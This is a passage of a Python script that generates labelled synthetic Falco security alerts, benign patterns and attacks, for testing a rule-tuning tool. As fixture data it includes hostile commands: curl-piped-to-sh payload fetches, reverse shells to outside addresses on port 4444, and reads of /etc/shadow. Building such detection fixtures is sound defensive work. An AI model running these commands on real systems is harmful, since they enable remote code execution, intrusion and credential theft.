#!/usr/bin/env python3
"""Writes the labelled Falco alert logs that `rulekit gen` is trained and scored on.

Output, in rules-examples/alerts/ (or --out-dir):
  week1.jsonl, week2.jsonl            syscall alerts: upstream falco_rules.yaml +
                                      falco-incubating_rules.yaml + my_rules.yaml (beside them)
  k8s_week1.jsonl, k8s_week2.jsonl    k8s_audit alerts for the k8saudit plugin's rules
  <log>.labels.jsonl                  one line per log line: {"line": N, "label": L} with L one of
                                      "benign:<pattern>", "attack:<id>", "rare:<id>", "junk"

What a log holds: recurring benign patterns (daily over 7 days, several hosts), whose volatile
parts (container ids, pod suffixes, dates inside paths and command lines, ports, addresses, pids,
times) change on every alert and differ between the weeks while their identity (image repository,
executable, process and parent names, command-line prefix, namespace, user, file) stays; a few
rare benign events (fewer than 10 a week, which default settings must not tune); attacks, each
sharing its rule and exactly one obvious value with a benign pattern (week 2 only, plus a couple
of rare ones in week 1); and junk lines (blank, truncated JSON, Falco text output, startup log
lines, a Falco internal drop alert).

Alerts are shaped as Falco >= 0.41 prints them with json_output: keys sorted, output_fields with
one key per %field token of the rule's output plus evt.time in integer nanoseconds, typed values
(numbers for numeric fields, null when unavailable, "<NA>" in the text output). Syscall alerts also
carry the container/k8s fields that falco.yaml's `append_output` adds (the `-pk` set:
container.id, container.image.repository, container.image.tag, container.name, k8s.ns.name,
k8s.pod.name). Every alert's values satisfy the condition of the rule it names, as far as the
values shown go. The rule outputs below are the rules' own `output:` strings; --check-rules DIR
compares them with the rules files in DIR (../shared/corpus/rules) and with my_rules.yaml.

Deterministic: the same seed writes the same bytes (no clock, no hash randomisation involved).
Run: python3 scripts/make_gen_logs.py [--out-dir DIR] [--seed N] [--check-rules DIR]
"""

import argparse
import datetime as dt
import json
import os
import random
import re
import sys

SEED = 20261116
WEEK_STARTS = {1: dt.datetime(2026, 11, 16, tzinfo=dt.timezone.utc),
               2: dt.datetime(2026, 11, 23, tzinfo=dt.timezone.utc)}

# The `-pk` container/k8s set Falco's append_output adds to every syscall rule.
APPEND_OUTPUT = ("container_id=%container.id container_image=%container.image.repository "
                 "container_image_tag=%container.image.tag container_name=%container.name "
                 "k8s_ns=%k8s.ns.name k8s_pod_name=%k8s.pod.name")

# rule -> (file it comes from, priority as printed, tags, output)
RULES = {
    "Read sensitive file untrusted": (
        "upstream/falco_rules.yaml", "Warning",
        ["maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"],
        "Sensitive file opened for reading by non-trusted program | file=%fd.name gparent=%proc.aname[2] ggparent=%proc.aname[3] gggparent=%proc.aname[4] evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty"),
    "Terminal shell in container": (
        "upstream/falco_rules.yaml", "Notice",
        ["maturity_stable", "container", "shell", "mitre_execution", "T1059"],
        "A shell was spawned in a container with an attached terminal | evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags"),
    "Contact K8S API Server From Container": (
        "upstream/falco_rules.yaml", "Notice",
        ["maturity_stable", "container", "network", "k8s", "mitre_discovery", "T1565"],
        "Unexpected connection to K8s API Server from container | connection=%fd.name lport=%fd.lport rport=%fd.rport fd_type=%fd.type fd_proto=%fd.l4proto evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty"),
    "Redirect STDOUT/STDIN to Network Connection in Container": (
        "upstream/falco_rules.yaml", "Notice",
        ["maturity_stable", "container", "network", "process", "mitre_execution", "T1059"],
        "Redirect stdout/stdin to network connection | gparent=%proc.aname[2] ggparent=%proc.aname[3] gggparent=%proc.aname[4] fd.sip=%fd.sip connection=%fd.name lport=%fd.lport rport=%fd.rport fd_type=%fd.type fd_proto=%fd.l4proto evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty"),
    "Drop and execute new binary in container": (
        "upstream/falco_rules.yaml", "Critical",
        ["maturity_stable", "container", "process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"],
        "Executing binary not part of base image | proc_exe=%proc.exe proc_sname=%proc.sname gparent=%proc.aname[2] proc_exe_ino_ctime=%proc.exe_ino.ctime proc_exe_ino_mtime=%proc.exe_ino.mtime proc_exe_ino_ctime_duration_proc_start=%proc.exe_ino.ctime_duration_proc_start proc_cwd=%proc.cwd container_start_ts=%container.start_ts evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags"),
    "Launch Package Management Process in Container": (
        "upstream/falco-incubating_rules.yaml", "Error",
        ["maturity_incubating", "container", "process", "software_mgmt", "mitre_persistence", "T1505"],
        "Package management process launched in container | evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags"),
    "Unexpected outbound connection from payments namespace": (
        "my_rules.yaml", "Notice", ["acme", "network", "payments"],
        "Outbound connection from payments workload (connection=%fd.name dest_ip=%fd.sip dest_port=%fd.sport process=%proc.name exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline user=%user.name)"),
    "Nginx configuration written in container": (
        "my_rules.yaml", "Warning", ["acme", "filesystem", "nginx"],
        "Nginx configuration written (file=%fd.name process=%proc.name exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline user=%user.name user_uid=%user.uid)"),
    "Attach/Exec Pod": (
        "plugins/k8saudit/k8s_audit_rules.yaml", "Notice", ["k8s"],
        "Attach/Exec to pod (user=%ka.user.name pod=%ka.target.name resource=%ka.target.resource ns=%ka.target.namespace action=%ka.target.subresource command=%ka.uri.param[command])"),
    "K8s Secret Get Successfully": (
        "plugins/k8saudit/k8s_audit_rules.yaml", "Error", ["k8s"],
        "K8s Secret Get Successfully (user=%ka.user.name secret=%ka.target.name ns=%ka.target.namespace resource=%ka.target.resource resp=%ka.response.code decision=%ka.auth.decision reason=%ka.auth.reason)"),
    "K8s ConfigMap Created": (
        "plugins/k8saudit/k8s_audit_rules.yaml", "Informational", ["k8s"],
        "K8s ConfigMap Created (user=%ka.user.name configmap=%ka.target.name ns=%ka.target.namespace resource=%ka.target.resource resp=%ka.response.code decision=%ka.auth.decision reason=%ka.auth.reason)"),
    "Disallowed K8s User": (
        "plugins/k8saudit/k8s_audit_rules.yaml", "Warning", ["k8s"],
        "K8s Operation performed by user not in allowed list of users (user=%ka.user.name target=%ka.target.name/%ka.target.resource verb=%ka.verb uri=%ka.uri resp=%ka.response.code)"),
}

TOKEN = re.compile(r"%([A-Za-z0-9_.]+(?:\[[^\]]*\])?)")

SYSCALL_HOSTS = ["ip-10-0-1-23", "ip-10-0-1-87", "ip-10-0-2-14", "ip-10-0-2-201",
                 "ip-10-0-3-45", "ip-10-0-3-132"]
CI_HOSTS = ["ip-10-0-4-11", "ip-10-0-4-76", "ip-10-0-4-190"]
CONTROL_PLANE_HOSTS = ["ip-10-0-0-10", "ip-10-0-0-74", "ip-10-0-0-139"]
KERNELS = {"ip-10-0-1-23": "6.1.0-1021-aws", "ip-10-0-1-87": "6.1.0-1021-aws",
           "ip-10-0-2-14": "6.1.0-1024-aws", "ip-10-0-2-201": "6.1.0-1024-aws",
           "ip-10-0-3-45": "6.8.0-1017-aws", "ip-10-0-3-132": "6.8.0-1017-aws"}

POD_ALPHABET = "bcdfghjklmnpqrstvwxz2456789"  # what Kubernetes uses for generated suffixes


class Gen:
    """One week's alerts: the random source, and what was emitted (time, line, label)."""

    def __init__(self, week, seed):
        self.week = week
        self.rng = random.Random(f"{seed}:{week}")
        self.start = WEEK_STARTS[week]
        self.events = []

    # ---- volatile values -------------------------------------------------------------
    def hex(self, n):
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def suffix(self, n):
        return "".join(self.rng.choice(POD_ALPHABET) for _ in range(n))

    def container_id(self):
        return self.hex(12)

    def deployment_pod(self, app):
        return f"{app}-{self.suffix(10)}-{self.suffix(5)}"

    def pod_ip(self):
        return f"10.42.{self.rng.randint(0, 15)}.{self.rng.randint(2, 254)}"

    def ephemeral_port(self):
        return self.rng.randint(32768, 60999)

    def time_at(self, day, hour_lo=0, hour_hi=24):
        seconds = self.rng.randint(hour_lo * 3600, hour_hi * 3600 - 1)
        ns = self.rng.randint(0, 999_999_999)
        t = self.start + dt.timedelta(days=day, seconds=seconds)
        return int(t.timestamp()) * 1_000_000_000 + ns

    # ---- alerts ------------------------------------------------------------------------
    def emit(self, rule, host, time_ns, fields, label):
        _, priority, tags, output = RULES[rule]
        source = "k8s_audit" if "ka.user.name" in fields else "syscall"
        fmt = output + (" " + APPEND_OUTPUT if source == "syscall" else "")
        keys = TOKEN.findall(fmt)
        missing = [k for k in keys if k not in fields]
        if missing:
            raise SystemExit(f"internal error: {label} on {rule!r} lacks {missing}")
        output_fields = {k: fields[k] for k in keys}
        output_fields["evt.time"] = time_ns
        alert = {
            "hostname": host,
            "output": text_line(time_ns, priority, fmt, fields),
            "output_fields": output_fields,
            "priority": priority,
            "rule": rule,
            "source": source,
            "tags": sorted(tags),
            "time": iso_time(time_ns),
        }
        self.events.append((time_ns, json.dumps(alert, sort_keys=True, separators=(",", ":")), label))


def iso_time(time_ns):
    seconds, ns = divmod(time_ns, 1_000_000_000)
    t = dt.datetime.fromtimestamp(seconds, dt.timezone.utc)
    return t.strftime("%Y-%m-%dT%H:%M:%S") + f".{ns:09d}Z"


def text_line(time_ns, priority, fmt, fields):
    seconds, ns = divmod(time_ns, 1_000_000_000)
    clock = dt.datetime.fromtimestamp(seconds, dt.timezone.utc).strftime("%H:%M:%S")

    def render(m):
        v = fields[m.group(1)]
        return "<NA>" if v is None else str(v)

    return f"{clock}.{ns:09d}: {priority} {TOKEN.sub(render, fmt)}"


def process(evt_type, user, uid, name, exepath, pname, cmdline, tty=0, flags=None, loginuid=-1):
    return {"evt.type": evt_type, "user.name": user, "user.uid": uid, "user.loginuid": loginuid,
            "proc.name": name, "proc.exepath": exepath, "proc.pname": pname,
            "proc.cmdline": cmdline, "proc.tty": tty, "evt.arg.flags": flags}


def container(cid, image, tag, name, ns, pod):
    return {"container.id": cid, "container.image.repository": image,
            "container.image.tag": tag, "container.name": name,
            "k8s.ns.name": ns, "k8s.pod.name": pod}


# =========================== syscall patterns (week-independent identity) ====================

def kernel(g, host, day):
    """Node kernels: in week 2 the ip-10-0-3-* nodes are upgraded from Friday on."""
    if g.week == 2 and day >= 4 and host.startswith("ip-10-0-3-"):
        return "6.8.0-1019-aws"
    return KERNELS[host]


def driver_loader_dkms(g):
    """Seed case: the falco driver-loader init container runs `bash -c /usr/sbin/dkms status`
    on every node start; the image upgrade between the weeks moves its tag, not its repository."""
    tag = "0.39.2" if g.week == 1 else "0.40.0"
    for day in range(7):
        for host in SYSCALL_HOSTS:
            for _ in range(g.rng.randint(1, 2)):  # node starts and pod restarts
                cid = g.container_id()
                pod = f"falco-{g.suffix(5)}"
                start = g.time_at(day)
                for step in range(2):  # status before and after the build
                    t = start + (step * 41 + g.rng.randint(1, 9)) * 1_000_000_000
                    f = process("execve", "root", 0, "bash", "/usr/bin/bash", "falcoctl",
                                f"bash -c /usr/sbin/dkms status -m falco -v 8.0.0+driver -k {kernel(g, host, day)}",
                                flags="EXE_WRITABLE|EXE_UPPER_LAYER")
                    f.update(container(cid, "docker.io/falcosecurity/falco-driver-loader", tag,
                                       "falco-driver-loader", "falco", pod))
                    f.update({"proc.exe": "bash", "proc.sname": "falcoctl",
                              "proc.aname[2]": "containerd-shim", "proc.cwd": "/",
                              "proc.exe_ino.ctime": start - 2_000_000_000,
                              "proc.exe_ino.mtime": start - 2_000_000_000,
                              "proc.exe_ino.ctime_duration_proc_start": t - start + 2_000_000_000,
                              "container.start_ts": start - 3_000_000_000})
                    g.emit("Drop and execute new binary in container", host, t, f,
                           "benign:driver-loader-dkms")


def backup_reads_shadow(g):
    """A nightly per-node backup CronJob tars /etc: tar opens /etc/shadow, /etc/sudoers and PAM
    files; the archive path carries the date and the node name."""
    files = ["/etc/shadow", "/etc/sudoers", "/etc/pam.d/common-auth"]
    for day in range(7):
        date = (g.start + dt.timedelta(days=day)).strftime("%Y-%m-%d")
        for host in SYSCALL_HOSTS:
            start = g.time_at(day, 2, 3)
            schedule = (start // 1_000_000_000) // 60
            cid, pod = g.container_id(), f"etc-backup-{schedule}-{g.suffix(5)}"
            for i, path in enumerate(files):
                f = process("openat", "root", 0, "tar", "/usr/bin/tar", "backup.sh",
                            f"tar --create --gzip --file /backup/{date}/{host}/etc.tar.gz /etc")
                f.update(container(cid, "registry.acme.internal/platform/node-backup", f"1.4.{g.week}",
                                   "backup", "ops-backup", pod))
                f.update({"fd.name": path, "proc.aname[2]": "supercronic",
                          "proc.aname[3]": "containerd-shim", "proc.aname[4]": "systemd"})
                g.emit("Read sensitive file untrusted", host, start + i * 3_000_000 + g.rng.randint(0, 999_999), f,
                       "benign:backup-reads-shadow")


def ci_runner_pod(g):
    return f"runner-{g.suffix(8)}-project-{g.rng.choice([412, 977, 1203, 1588])}-concurrent-{g.rng.randint(0, 3)}-{g.suffix(5)}"


CI_JOBS = {
    "ci-apt-install": ("docker.io/library/debian", ["bookworm", "bookworm-slim", "12.8"],
                       "apt-get", "/usr/bin/apt-get",
                       ["apt-get update", "apt-get install -y --no-install-recommends build-essential git curl",
                        "apt-get install -y --no-install-recommends libpq-dev"]),
    "ci-pip-install": ("docker.io/library/python", ["3.12-slim", "3.11-slim", "3.12"],
                       "pip", "/usr/local/bin/pip",
                       ["pip install --no-cache-dir -r requirements.txt",
                        "pip install --no-cache-dir -r requirements-dev.txt", "pip install --upgrade pip"]),
    "ci-apk-add": ("docker.io/library/alpine", ["3.20", "3.21", "latest"],
                   "apk", "/sbin/apk",
                   ["apk add --no-cache git openssh-client", "apk add --no-cache curl jq"]),
}


def ci_package_managers(g):
    """CI job containers on the runner nodes install packages: three images, a few commands each."""
    for pattern, (image, tags, name, exepath, commands) in sorted(CI_JOBS.items()):
        for day in range(7):
            for host in CI_HOSTS:
                for _ in range(g.rng.randint(1, 3)):  # jobs
                    cid, pod, tag = g.container_id(), ci_runner_pod(g), g.rng.choice(tags)
                    t = g.time_at(day, 6, 22)
                    for cmd in commands[: g.rng.randint(1, len(commands))]:
                        t += g.rng.randint(1, 40) * 1_000_000_000
                        f = process("execve", "root", 0, name, exepath, "sh", cmd,
                                    flags="EXE_WRITABLE|EXE_LOWER_LAYER")
                        f.update(container(cid, image, tag, "build", "gitlab-runner", pod))
                        g.emit("Launch Package Management Process in Container", host, t, f,
                               f"benign:{pattern}")


def apiserver_clients(g):
    """Prometheus (two StatefulSet replicas) and kube-state-metrics talk to the API server
    through the kubernetes service; their images are not in upstream's k8s_containers list."""
    service_ip = "10.43.0.1"
    for day in range(7):
        # the replicas are rescheduled now and then: a new pod IP and container id each time
        for replica, host in enumerate(g.rng.sample(SYSCALL_HOSTS, 2)):
            cid, ip = g.container_id(), g.pod_ip()
            for _ in range(g.rng.randint(6, 9)):
                lport = g.ephemeral_port()
                f = process("connect", "nobody", 65534, "prometheus", "/bin/prometheus", None,
                            "prometheus --config.file=/etc/prometheus/prometheus.yml "
                            "--storage.tsdb.path=/prometheus --storage.tsdb.retention.time=15d "
                            "--web.enable-lifecycle")
                f.update(container(cid, "cgr.dev/chainguard/prometheus", g.rng.choice(["latest", "2.55.1"]),
                                   "prometheus", "monitoring", f"prometheus-k8s-{replica}"))
                f.update({"fd.name": f"{ip}:{lport}->{service_ip}:443", "fd.lport": lport,
                          "fd.rport": 443, "fd.type": "ipv4", "fd.l4proto": "tcp"})
                g.emit("Contact K8S API Server From Container", host, g.time_at(day), f,
                       "benign:prometheus-apiserver")
        host = g.rng.choice(SYSCALL_HOSTS)
        cid, ip, pod = g.container_id(), g.pod_ip(), g.deployment_pod("kube-state-metrics")
        for _ in range(g.rng.randint(3, 5)):
            lport = g.ephemeral_port()
            # a uid the distroless image has no passwd entry for: libsinsp names it "<NA>"
            f = process("connect", "<NA>", 65534, "kube-state-metr", "/kube-state-metrics", None,
                        "kube-state-metr --port=8080 --telemetry-port=8081")
            f.update(container(cid, "registry.k8s.io/kube-state-metrics/kube-state-metrics", "v2.13.0",
                               "kube-state-metrics", "monitoring", pod))
            f.update({"fd.name": f"{ip}:{lport}->{service_ip}:443", "fd.lport": lport,
                      "fd.rport": 443, "fd.type": "ipv4", "fd.l4proto": "tcp"})
            g.emit("Contact K8S API Server From Container", host, g.time_at(day), f,
                   "benign:kube-state-metrics-apiserver")


def debug_shells(g):
    """SREs `kubectl exec -it` into their debug pods (netshoot runs zsh, the toolbox bash); the
    shell's parent is runc or already gone (null)."""
    kinds = [("netshoot-debug-shell", "docker.io/nicolaka/netshoot", "v0.13", "netshoot", "zsh",
              "/bin/zsh", ["zsh"]),
             ("sre-toolbox-shell", "registry.acme.internal/sre/toolbox", "2026.11", "toolbox", "bash",
              "/usr/bin/bash", ["bash", "bash -il"])]
    for pattern, image, tag, app, shell, exepath, cmds in kinds:
        for day in range(7):
            host = g.rng.choice(SYSCALL_HOSTS)
            cid, pod = g.container_id(), g.deployment_pod(app)
            for _ in range(g.rng.randint(2, 4)):
                f = process("execve", "root", 0, shell, exepath, g.rng.choice([None, "runc"]),
                            g.rng.choice(cmds), tty=34816 + g.rng.randint(0, 5),
                            flags="EXE_WRITABLE|EXE_LOWER_LAYER")
                f.update(container(cid, image, tag, app, "sre-debug", pod))
                g.emit("Terminal shell in container", host, g.time_at(day, 8, 19), f, f"benign:{pattern}")


def ssh_bastion(g):
    """sshd in the bastion pods hands the accepted socket to the session (dup2 onto 0/1/2)."""
    for day in range(7):
        for host in g.rng.sample(SYSCALL_HOSTS, 2):
            cid, ip = g.container_id(), g.pod_ip()
            for _ in range(g.rng.randint(5, 7)):
                client, cport = f"10.0.{g.rng.randint(0, 9)}.{g.rng.randint(2, 254)}", g.ephemeral_port()
                f = process("dup2", "root", 0, "sshd", "/usr/sbin/sshd", "sshd", "sshd -D -e -R")
                f.update(container(cid, "registry.acme.internal/platform/ssh-bastion", "9.6p1-r3",
                                   "sshd", "bastion", f"ssh-bastion-{g.suffix(10)}-{g.suffix(5)}"))
                f.update({"fd.sip": ip, "fd.name": f"{client}:{cport}->{ip}:2222", "fd.lport": 2222,
                          "fd.rport": cport, "fd.type": "ipv4", "fd.l4proto": "tcp",
                          "proc.aname[2]": "s6-supervise", "proc.aname[3]": "s6-svscan",
                          "proc.aname[4]": "containerd-shim"})
                g.emit("Redirect STDOUT/STDIN to Network Connection in Container", host,
                       g.time_at(day, 7, 20), f, "benign:ssh-bastion-redirect")


PSP_ADDRESSES = ["54.187.174.169", "54.187.205.235", "54.187.216.72", "54.241.31.99",
                 "54.241.31.102", "54.241.34.107", "13.112.224.240", "13.115.13.148"]


def payments_egress(g):
    """checkout-api calls the payment provider's HTTPS API, whose addresses rotate."""
    for day in range(7):
        for host in SYSCALL_HOSTS[:3]:
            cid, ip, pod = g.container_id(), g.pod_ip(), g.deployment_pod("checkout-api")
            for _ in range(g.rng.randint(3, 5)):
                dest, lport = g.rng.choice(PSP_ADDRESSES), g.ephemeral_port()
                f = process("connect", "app", 10001, "java", "/opt/java/openjdk/bin/java", None,
                            "java -XX:MaxRAMPercentage=75 -jar /app/checkout-api.jar")
                f.update(container(cid, "ghcr.io/acme/checkout-api", f"v3.{7 + g.week}.{g.rng.randint(0, 4)}",
                                   "checkout-api", "payments", pod))
                f.update({"fd.name": f"{ip}:{lport}->{dest}:443", "fd.sip": dest, "fd.sport": 443,
                          "fd.l4proto": "tcp"})
                g.emit("Unexpected outbound connection from payments namespace", host, g.time_at(day), f,
                       "benign:checkout-psp-egress")


def nginx_confd(g):
    """The confd sidecar renders nginx upstreams into a temporary file with a numeric tail."""
    for day in range(7):
        for host in SYSCALL_HOSTS[3:]:
            cid, pod = g.container_id(), f"ingress-nginx-controller-{g.suffix(10)}-{g.suffix(5)}"
            for _ in range(g.rng.randint(3, 5)):
                f = process("openat", "www-data", 33, "confd", "/usr/local/bin/confd", None,
                            "confd -backend k8s -watch -log-level info")
                f.update(container(cid, "ghcr.io/acme/nginx-confd", "0.16.0", "confd", "ingress", pod))
                f["fd.name"] = f"/etc/nginx/conf.d/.upstreams.conf{g.rng.randint(10**8, 4 * 10**9)}"
                g.emit("Nginx configuration written in container", host, g.time_at(day), f,
                       "benign:nginx-confd-render")


# =========================== syscall rare events and attacks ==================================

def syscall_rare(g):
    """Benign but rare: fewer than 10 a week, which default settings must leave firing."""
    for _ in range(3):
        host, day = g.rng.choice(SYSCALL_HOSTS), g.rng.randrange(7)
        f = process("openat", "root", 0, "python3", "/usr/bin/python3.11", "bash",
                    "python3 /opt/audit/check_accounts.py --report")
        f.update(container(g.container_id(), "registry.acme.internal/sre/audit-script", "1.0",
                           "audit", "sre-debug", f"account-audit-{g.suffix(5)}"))
        f.update({"fd.name": "/etc/shadow", "proc.aname[2]": None, "proc.aname[3]": "containerd-shim",
                  "proc.aname[4]": "systemd"})
        g.emit("Read sensitive file untrusted", host, g.time_at(day, 9, 17), f, "rare:account-audit-script")
    for _ in range(4):
        host, day = g.rng.choice(SYSCALL_HOSTS), g.rng.randrange(7)
        f = process("execve", "root", 0, "yum", "/usr/bin/yum", "bash", "yum install -y strace",
                    flags="EXE_WRITABLE|EXE_LOWER_LAYER")
        f.update(container(g.container_id(), "quay.io/centos/centos", "stream9", "debug", "sre-debug",
                           f"centos-debug-{g.suffix(5)}"))
        g.emit("Launch Package Management Process in Container", host, g.time_at(day, 9, 17), f,
               "rare:centos-debug-yum")
    for _ in range(2):
        host, day = g.rng.choice(SYSCALL_HOSTS), g.rng.randrange(7)
        f = process("execve", "root", 0, "sh", "/bin/sh", None, "sh", tty=34816,
                    flags="EXE_WRITABLE|EXE_LOWER_LAYER")
        f.update(container(g.container_id(), "registry.k8s.io/e2e-test-images/busybox", "1.36.1-1",
                           "busybox", "default", f"busybox-{g.suffix(5)}"))
        g.emit("Terminal shell in container", host, g.time_at(day, 9, 17), f, "rare:busybox-shell")


def syscall_attacks_week1(g):
    """Rare week-1 intrusions: they must keep firing after tuning."""
    host = SYSCALL_HOSTS[1]
    cid, ip = g.container_id(), g.pod_ip()
    for _ in range(2):
        f = process("dup2", "app", 10001, "sh", "/bin/sh", "java", "sh -i")
        f.update(container(cid, "ghcr.io/acme/checkout-api", "v3.8.2", "checkout-api", "payments",
                           g.deployment_pod("checkout-api")))
        port = g.ephemeral_port()
        f.update({"fd.sip": "198.51.100.77", "fd.name": f"{ip}:{port}->198.51.100.77:4444",
                  "fd.lport": port, "fd.rport": 4444, "fd.type": "ipv4", "fd.l4proto": "tcp",
                  "proc.aname[2]": None, "proc.aname[3]": "containerd-shim", "proc.aname[4]": "systemd"})
        g.emit("Redirect STDOUT/STDIN to Network Connection in Container", host, g.time_at(3, 3, 4), f,
               "attack:w1-java-reverse-shell")
    f = process("openat", "www-data", 33, "cat", "/usr/bin/cat", "sh", "cat /etc/shadow")
    f.update(container(g.container_id(), "docker.io/library/wordpress", "6.6-apache", "wordpress", "blog",
                       g.deployment_pod("wordpress")))
    f.update({"fd.name": "/etc/shadow", "proc.aname[2]": "apache2", "proc.aname[3]": "apache2",
              "proc.aname[4]": "containerd-shim"})
    g.emit("Read sensitive file untrusted", SYSCALL_HOSTS[4], g.time_at(5, 1, 2), f, "attack:w1-webshell-shadow")


def syscall_attacks_week2(g):
    """Each shares its rule and one obvious value with a benign pattern, and nothing else that
    identifies the pattern."""
    def at(day):
        return g.time_at(day, 0, 24)

    # same image as the driver loader, but a payload instead of dkms
    start = at(2)
    f = process("execve", "root", 0, "bash", "/usr/bin/bash", "sh",
                "bash -c curl -fsSL http://203.0.113.9/k.sh | sh", flags="EXE_WRITABLE|EXE_UPPER_LAYER")
    f.update(container(g.container_id(), "docker.io/falcosecurity/falco-driver-loader", "0.40.0",
                       "falco-driver-loader", "falco", f"falco-{g.suffix(5)}"))
    f.update({"proc.exe": "bash", "proc.sname": "sh", "proc.aname[2]": "runc", "proc.cwd": "/tmp",
              "proc.exe_ino.ctime": start - 9_000_000_000, "proc.exe_ino.mtime": start - 9_000_000_000,
              "proc.exe_ino.ctime_duration_proc_start": 9_500_000_000, "container.start_ts": start - 600_000_000_000})
    g.emit("Drop and execute new binary in container", SYSCALL_HOSTS[2], start, f, "attack:driver-loader-image-payload")

    # the backup image reading /etc/shadow, but with cat under sh rather than tar under backup.sh
    for _ in range(2):
        f = process("openat", "root", 0, "cat", "/usr/bin/cat", "sh", "cat /etc/shadow")
        f.update(container(g.container_id(), "registry.acme.internal/platform/node-backup", "1.4.2",
                           "backup", "ops-backup", f"etc-backup-{g.rng.randint(29000000, 29999999)}-{g.suffix(5)}"))
        f.update({"fd.name": "/etc/shadow", "proc.aname[2]": "bash", "proc.aname[3]": "containerd-shim",
                  "proc.aname[4]": "systemd"})
        g.emit("Read sensitive file untrusted", SYSCALL_HOSTS[0], at(4), f, "attack:backup-image-cat-shadow")

    # apt-get, the CI process name, in a production image
    f = process("execve", "root", 0, "apt-get", "/usr/bin/apt-get", "bash", "apt-get install -y nmap ncat",
                flags="EXE_WRITABLE|EXE_LOWER_LAYER")
    f.update(container(g.container_id(), "ghcr.io/acme/checkout-api", "v3.9.1", "checkout-api", "payments",
                       g.deployment_pod("checkout-api")))
    g.emit("Launch Package Management Process in Container", SYSCALL_HOSTS[1], at(3), f,
           "attack:apt-get-in-checkout")

    # a binary named prometheus, dropped into an alpine pod
    for _ in range(2):
        lport = g.ephemeral_port()
        ip = g.pod_ip()
        f = process("connect", "root", 0, "prometheus", "/tmp/prometheus", "sh", "prometheus")
        f.update(container(g.container_id(), "docker.io/library/alpine", "3.21", "alpine", "default",
                           f"alpine-{g.suffix(5)}"))
        f.update({"fd.name": f"{ip}:{lport}->10.43.0.1:443", "fd.lport": lport, "fd.rport": 443,
                  "fd.type": "ipv4", "fd.l4proto": "tcp"})
        g.emit("Contact K8S API Server From Container", SYSCALL_HOSTS[5], at(5), f,
               "attack:fake-prometheus-apiserver")

    # bash, the toolbox shell, with a terminal in the payments image
    f = process("execve", "root", 0, "bash", "/usr/bin/bash", None, "bash", tty=34817,
                flags="EXE_WRITABLE|EXE_LOWER_LAYER")
    f.update(container(g.container_id(), "ghcr.io/acme/checkout-api", "v3.9.1", "checkout-api", "payments",
                       g.deployment_pod("checkout-api")))
    g.emit("Terminal shell in container", SYSCALL_HOSTS[3], at(1), f, "attack:bash-terminal-in-checkout")

    # the bastion image, but a python-spawned shell wired to an outside address
    ip, port = g.pod_ip(), g.ephemeral_port()
    f = process("dup2", "root", 0, "bash", "/usr/bin/bash", "python3", "bash -i")
    f.update(container(g.container_id(), "registry.acme.internal/platform/ssh-bastion", "9.6p1-r3", "sshd",
                       "bastion", f"ssh-bastion-{g.suffix(10)}-{g.suffix(5)}"))
    f.update({"fd.sip": ip, "fd.name": f"{ip}:{port}->198.51.100.23:4444", "fd.lport": port, "fd.rport": 4444,
              "fd.type": "ipv4", "fd.l4proto": "tcp", "proc.aname[2]": "sshd", "proc.aname[3]": "s6-supervise",
              "proc.aname[4]": "s6-svscan"})
    g.emit("Redirect STDOUT/STDIN to Network Connection in Container", SYSCALL_HOSTS[4], at(6), f,
           "attack:bastion-image-reverse-shell")

    # the checkout-api image, but curl fetching a script from a non-HTTPS port
    ip, lport = g.pod_ip(), g.ephemeral_port()
    f = process("connect", "app", 10001, "curl", "/usr/bin/curl", "sh", "curl -s http://203.0.113.50:8080/x.sh")
    f.update(container(g.container_id(), "ghcr.io/acme/checkout-api", "v3.9.0", "checkout-api", "payments",
                       g.deployment_pod("checkout-api")))
    f.update({"fd.name": f"{ip}:{lport}->203.0.113.50:8080", "fd.sip": "203.0.113.50", "fd.sport": 8080,
              "fd.l4proto": "tcp"})
    g.emit("Unexpected outbound connection from payments namespace", SYSCALL_HOSTS[0], at(2), f,
           "attack:checkout-image-curl-egress")

    # a binary named confd, from /tmp, rewriting the main nginx.conf
    f = process("openat", "root", 0, "confd", "/tmp/confd", "sh", "confd")
    f.update(container(g.container_id(), "docker.io/library/nginx", "1.27", "nginx", "web",
                       g.deployment_pod("web")))
    f["fd.name"] = "/etc/nginx/nginx.conf"
    g.emit("Nginx configuration written in container", SYSCALL_HOSTS[5], at(4), f, "attack:fake-confd-nginx-conf")


# =========================== k8s_audit ========================================================

def k8s_fields(user, target, resource, ns, **extra):
    f = {"ka.user.name": user, "ka.target.name": target, "ka.target.resource": resource,
         "ka.target.namespace": ns}
    f.update(extra)
    return f


RBAC_REASON = 'RBAC: allowed by ClusterRoleBinding "{0}" of ClusterRole "{0}" to ServiceAccount "{1}"'


def k8s_benign(g):
    ci_sa = "system:serviceaccount:gitlab-runner:gitlab-runner"
    for day in range(7):
        # the GitLab Kubernetes executor attaches to and execs into its build pods
        for _ in range(g.rng.randint(8, 11)):
            pod = ci_runner_pod(g)
            t = g.time_at(day, 6, 22)
            f = k8s_fields(ci_sa, pod, "pods", "gitlab-runner", **{
                "ka.target.subresource": "attach", "ka.uri.param[command]": None})
            g.emit("Attach/Exec Pod", g.rng.choice(CONTROL_PLANE_HOSTS), t, f, "benign:ci-runner-attach-exec")
            for _ in range(g.rng.randint(1, 3)):
